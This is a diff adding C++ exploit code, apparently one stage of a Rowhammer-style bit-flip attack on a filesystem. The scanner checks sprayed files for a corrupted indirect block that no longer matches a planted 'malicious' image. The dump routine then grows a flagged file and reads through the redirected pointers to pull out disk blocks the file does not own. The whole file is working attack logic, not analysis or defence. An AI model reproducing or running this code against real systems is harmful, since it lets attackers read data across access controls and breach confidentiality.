@@ -1,0 +1,60 @@
+#include "attack/bitflip_scanner.hpp"
+
+#include <cstring>
+
+namespace rhsd {
+
+StatusOr<std::vector<ScanHit>> BitflipScanner::scan(
+    std::span<const SprayedFile> files,
+    std::span<const std::uint32_t> target_blocks) {
+  const std::vector<std::uint8_t> expected =
+      Sprayer::MaliciousIndirectImage(target_blocks);
+  constexpr std::uint64_t kHoleOffset =
+      static_cast<std::uint64_t>(fs::kDirectBlocks) * kBlockSize;
+
+  std::vector<ScanHit> hits;
+  std::vector<std::uint8_t> buf(kBlockSize);
+  for (std::size_t i = 0; i < files.size(); ++i) {
+    auto n = fs_.read(cred_, files[i].ino, kHoleOffset, buf);
+    if (!n.ok()) {
+      // A flip can also make the file unreadable (pointer outside the
+      // partition): that still signals a redirected indirect block.
+      hits.push_back(ScanHit{i, {}});
+      continue;
+    }
+    if (*n != buf.size() ||
+        std::memcmp(buf.data(), expected.data(), buf.size()) != 0) {
+      hits.push_back(ScanHit{i, buf});
+    }
+  }
+  return hits;
+}
+
+StatusOr<std::vector<std::vector<std::uint8_t>>> BitflipScanner::dump(
+    const SprayedFile& file, std::uint32_t num_blocks) {
+  RHSD_CHECK(num_blocks <= fs::kPtrsPerBlock);
+  // Sparse-grow the file so reads reach pointer slots beyond the one
+  // data block (no mapping changes — the redirected indirect block
+  // stays in place).
+  const std::uint64_t need_size =
+      (static_cast<std::uint64_t>(fs::kDirectBlocks) + num_blocks) *
+      kBlockSize;
+  RHSD_RETURN_IF_ERROR(fs_.truncate(cred_, file.ino, need_size));
+
+  std::vector<std::vector<std::uint8_t>> out;
+  out.reserve(num_blocks);
+  for (std::uint32_t i = 0; i < num_blocks; ++i) {
+    std::vector<std::uint8_t> buf(kBlockSize);
+    const std::uint64_t off =
+        (static_cast<std::uint64_t>(fs::kDirectBlocks) + i) * kBlockSize;
+    auto n = fs_.read(cred_, file.ino, off, buf);
+    if (!n.ok() || *n != buf.size()) {
+      out.emplace_back();  // unreadable slot
+    } else {
+      out.push_back(std::move(buf));
+    }
+  }
+  return out;
+}
+
+}  // namespace rhsd
